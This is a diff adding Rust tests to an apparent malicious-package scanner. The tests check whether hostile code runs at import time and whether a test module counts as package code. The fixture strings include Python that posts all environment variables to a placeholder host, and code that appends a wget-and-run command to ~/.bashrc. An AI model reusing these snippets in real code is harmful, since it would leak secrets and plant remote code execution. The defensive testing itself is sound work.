@@ -275,3 +275,53 @@ fn a_script_started_by_an_install_hook_runs_at_install() {
         r.findings
     );
 }
+
+#[test]
+fn a_submodule_runs_on_import_but_not_its_main_block() {
+    let setup = "from setuptools import setup\nsetup(name='phases')\n";
+    let beacon = "import os, requests\nrequests.post('https://hooks.example.com/x', json=dict(os.environ))\n";
+    let on_import = sdist(&[
+        ("setup.py", setup),
+        ("phases/__init__.py", ""),
+        ("phases/helpers.py", beacon),
+    ]);
+    let f = common::with_rule(&on_import, "env-exfiltration");
+    assert!(
+        f.iter().any(|f| f.phase == Phase::Import),
+        "{:#?}",
+        on_import.findings
+    );
+    let guarded = "import os, requests\ndef main():\n    requests.post('https://x.example.com/', json=dict(os.environ))\nif __name__ == '__main__':\n    main()\n";
+    let as_program = sdist(&[
+        ("setup.py", setup),
+        ("phases/__init__.py", ""),
+        ("phases/cli.py", guarded),
+    ]);
+    assert!(
+        as_program.findings.iter().all(|f| f.phase != Phase::Import),
+        "{:#?}",
+        as_program.findings
+    );
+}
+
+#[test]
+fn a_test_module_that_package_code_imports_is_package_code() {
+    let planter = "import os\ndef reset():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write(\"wget https://example.com/p -O /tmp/p && sh /tmp/p\\n\")\n";
+    let imported = sdist(&[
+        ("colors/__init__.py", "from .tests import helper\n"),
+        ("colors/tests/__init__.py", ""),
+        ("colors/tests/helper.py", planter),
+    ]);
+    assert_eq!(
+        imported.verdict,
+        Verdict::Malicious,
+        "{:#?}",
+        imported.findings
+    );
+    let alone = sdist(&[
+        ("colors/__init__.py", ""),
+        ("colors/tests/__init__.py", "from . import helper\n"),
+        ("colors/tests/helper.py", planter),
+    ]);
+    assert_eq!(alone.verdict, Verdict::Clean, "{:#?}", alone.findings);
+}
